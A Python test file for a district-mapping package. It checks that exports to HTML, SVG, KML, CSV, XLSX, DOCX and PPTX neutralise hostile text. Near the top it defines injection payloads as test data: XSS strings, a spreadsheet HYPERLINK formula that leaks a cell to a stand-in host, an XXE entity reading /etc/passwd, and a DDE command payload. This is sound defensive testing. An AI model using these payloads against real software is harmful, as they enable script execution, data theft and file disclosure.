"""Whatever a data folder says, no export and no reader takes it for markup, formula or link."""

import copy
import dataclasses
import datetime as dt
import io
import json
import re
import zipfile
from collections import Counter
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from geo.base import read_district
from geo.build import build
from geo.checks.folder import inspect
from geo.checks.report import report_html
from geo.drafting.draft import draft_from_text
from geo.drafting.items import About
from geo.errors import GeoError
from geo.io.read import read_text, read_toml
from geo.plans.documents import read_document, read_documents
from layers.exports import ExportRequest, export, read_material
from layers.map.zones import script_json
from layers.sheets.options import SheetOptions
from testing.tiny_district import write_tiny_district

DAY = dt.date(2026, 11, 22)
HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>"
    "</title></style></textarea><!--<script>]]>&lt;b&gt; javascript:alert(1)"
)
FORMULA = '=HYPERLINK("http://elsewhere.example/"&A1,"x")'
ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;{{7*7}}${x}%s{0}'
TEXTS = [HOSTILE, FORMULA, ENTITY, "+1+cmd|' /C calc'!A0", "@SUM(1)", "\u202e</script>\u2028x"]
COLUMNS = (
    "name", "name_en", "short_name", "short_name_en", "group_name", "group_name_en", "section",
    "citation", "citation_en", "limits_text", "positioning", "strategy", "verdict_reason",
    "verdict_reason_en", "reasoning", "reasoning_en", "stated_area", "limit", "road", "clause",
    "source", "landmark_id", "address",
)  # fmt: skip
quick = settings(
    deadline=None,
    max_examples=60,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
texts = st.one_of(st.text(max_size=60), st.sampled_from(TEXTS))


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return write_tiny_district(tmp_path_factory.mktemp("hostile") / "data")


@pytest.fixture(scope="module")
def material(folder):
    return read_material(folder)


def poisoned(material, words):
    """The same district with the words in every text of zones, edges, base and district."""
    made = copy.deepcopy(material)
    layers = [*made.zones.values(), *made.edges.values(), *made.base_layers.values()]
    layers += [made.base.roads, made.base.rivers, made.base.landmarks]
    for layer in layers:
        for column in COLUMNS:
            if column in layer.columns and len(layer):
                layer[column] = words
        for column in ("quote", "places"):
            if column in layer.columns:
                layer[column] = [[words] for _ in range(len(layer))]
        about = layer.attrs.get("metadata")
        if about:
            for key, value in about.items():
                if (
                    isinstance(value, str)
                    and "sha" not in key
                    and key not in ("plan", "metric_crs")
                ):
                    about[key] = words
    names = dict.fromkeys(("name", "name_en", "attribution", "attribution_en"), words)
    district = made.base.district.model_copy(update=names)
    return dataclasses.replace(made, base=dataclasses.replace(made.base, district=district))


def made(material, format_, words, **sheet):
    request = ExportRequest(
        format_, DAY, ("13th",), SheetOptions(title=words[:60], drawing_unit=words[:40], **sheet)
    )
    return export(request, poisoned(material, words)).content


class Tags(HTMLParser):
    """Count elements, and keep attributes that run or fetch something."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.tags = Counter()
        self.bad = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        for name, value in attrs:
            if name.startswith("on") or name in ("srcdoc", "formaction"):
                self.bad.append((tag, name))
            elif name in ("src", "href", "action", "data") and not (value or "").startswith("#"):
                self.bad.append((tag, name, value))


@pytest.fixture(scope="module")
def plain_page(material):
    """Return the elements of the page that says one harmless word everywhere."""
    return Tags(made(material, "html", "甲").decode())


@pytest.mark.parametrize("words", TEXTS)
def test_the_offline_page_has_the_same_elements_whatever_the_texts(material, plain_page, words):
    tags = Tags(made(material, "html", words).decode())
    assert tags.tags == plain_page.tags
    assert tags.bad == plain_page.bad == []


@pytest.fixture(scope="module")
def report_of(folder):
    """Return a function that gives the elements of a report that says some words everywhere."""
    built = build(folder)

    def page(sentence):
        drawn = {
            key: dataclasses.replace(
                value,
                item=value.item.model_copy(update={"name": sentence, "limits_text": sentence}),
            )
            for key, value in built.zones.items()
        }
        findings = tuple(
            dataclasses.replace(f, reason=sentence, reason_en=sentence) for f in built.findings
        )
        said_so = dataclasses.replace(built, zones=drawn, findings=findings)
        return Tags(report_html(said_so, inspect(said_so, folder), date="2026-11-22"))

    return page


def test_the_report_has_the_same_elements_whatever_the_texts(report_of):
    plain = report_of("甲")
    for words in TEXTS[:3]:
        page = report_of(words)
        assert page.bad == []
        assert "script" not in page.tags
        assert "img" not in page.tags
        assert page.tags == plain.tags


@pytest.mark.parametrize("words", [HOSTILE, FORMULA + ENTITY])
def test_svg_has_no_script_and_asks_for_nothing(material, words):
    root = ET.fromstring(made(material, "svg", words))
    names = {element.tag.rpartition("}")[2].lower() for element in root.iter()}
    assert not names & {"script", "foreignobject", "iframe", "a", "image", "animate", "set"}
    for element in root.iter():
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on")
            if name.endswith("href"):
                assert value.startswith("#")


@pytest.mark.parametrize("words", TEXTS)
def test_kml_and_csv_hold_text_only(material, words):
    root = ET.fromstring(made(material, "kml", words))
    for element in root.iter():
        if element.tag.endswith("description"):
            assert "<" not in (element.text or "").replace("<br>", "")
        assert not element.tag.endswith(("NetworkLink", "Icon", "href"))
    for line in made(material, "csv", words).decode("utf-8-sig").splitlines():
        assert not line.startswith(tuple("=+-@"))


@pytest.mark.parametrize("words", TEXTS)
def test_a_workbook_holds_no_formula_and_no_link(material, words):
    book = openpyxl.load_workbook(io.BytesIO(made(material, "xlsx", words)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c for c in cells if isinstance(c.value, str)]
    for cell in cells:
        assert cell.data_type != "f"
        assert cell.hyperlink is None
        if isinstance(cell.value, str) and cell.value.startswith(tuple("=+-@")):
            assert cell.data_type == "s"
            assert cell.quotePrefix  # kept as text when it is edited, too


@pytest.mark.parametrize("format_", ["docx", "pptx"])
def test_a_document_holds_no_outside_relation_no_macro_and_no_field_of_the_data(material, format_):
    def package(sentence):
        # Pictures are pixels whatever they say: plain ones do.
        content = made(material, format_, sentence, labels=False, dpi=150)
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return {name: archive.read(name) for name in archive.namelist()}

    hostile, plain = package(" ".join(TEXTS)), package("甲")
    kinds = {name.rpartition(".")[2] for name in hostile}
    assert kinds <= {name.rpartition(".")[2] for name in plain}
    assert not [name for name in hostile if "vba" in name.lower()]
    fields = re.compile(rb"<w:instrText[^>]*>([^<]*)<|<w:fldSimple[^>]*>")
    for name, content in hostile.items():
        if name.endswith((".xml", ".rels")):
            root = ET.fromstring(content)
            assert not [e for e in root.iter() if e.get("TargetMode") == "External"]
    codes = {f for c in hostile.values() for f in fields.findall(c)}
    assert codes <= {f for c in plain.values() for f in fields.findall(c)}


@quick
@given(st.recursive(texts | st.integers() | st.none(), lambda x: st.lists(x, max_size=4)))
@example(["</script><script>", "<!--", "\u2028", "]]>"])
def test_json_in_a_script_closes_nothing_and_comes_back(value):
    words = script_json(value)
    assert not re.search("[<\u2028\u2029]", words)
    assert json.loads(words) == value


@quick
@given(texts, st.binary(max_size=200))
def test_any_toml_gives_a_table_or_one_of_our_errors(tmp_path_factory, words, more):
    folder = tmp_path_factory.mktemp("toml")
    path = folder / "a.toml"
    path.write_bytes(words.encode("utf-8", "replace") + more)
    outcomes = []
    for reader in (read_text, read_toml, read_document):
        try:
            reader(path)
        except GeoError as error:
            outcomes.append(str(error))
    assert all("a.toml" in words for words in outcomes)
    documents, issues = read_documents(folder)
    assert documents or issues


@quick
@given(st.dictionaries(st.sampled_from(["format", "id", "name", "plans", "x"]), texts, max_size=5))
def test_any_district_file_gives_a_district_or_one_of_our_errors(tmp_path_factory, table):
    folder = tmp_path_factory.mktemp("district")
    lines = [f"{key} = {json.dumps(value)}" for key, value in table.items()]
    (folder / "district.toml").write_text("\n".join(lines), encoding="utf-8", errors="replace")
    with pytest.raises(GeoError, match="district"):
        read_district(folder)


@quick
@given(texts, texts)
def test_a_draft_of_any_words_is_a_plan_file_that_can_be_read(tmp_path_factory, words, title):
    about = About(plan="15th", period_from=2026, period_to=2030, title=title)
    text = f"{words}甲片区：东至甲路，南至乙路，西至丙路，北至丁路，面积1.2平方公里。{words}"
    try:
        draft = draft_from_text(text, about)
    except GeoError:
        return
    path = tmp_path_factory.mktemp("draft") / "a.toml"
    path.write_text(draft.source, encoding="utf-8", errors="replace")
    try:
        read_toml(path)
    except GeoError as error:  # the draft itself must be TOML whatever the words
        pytest.fail(str(error))
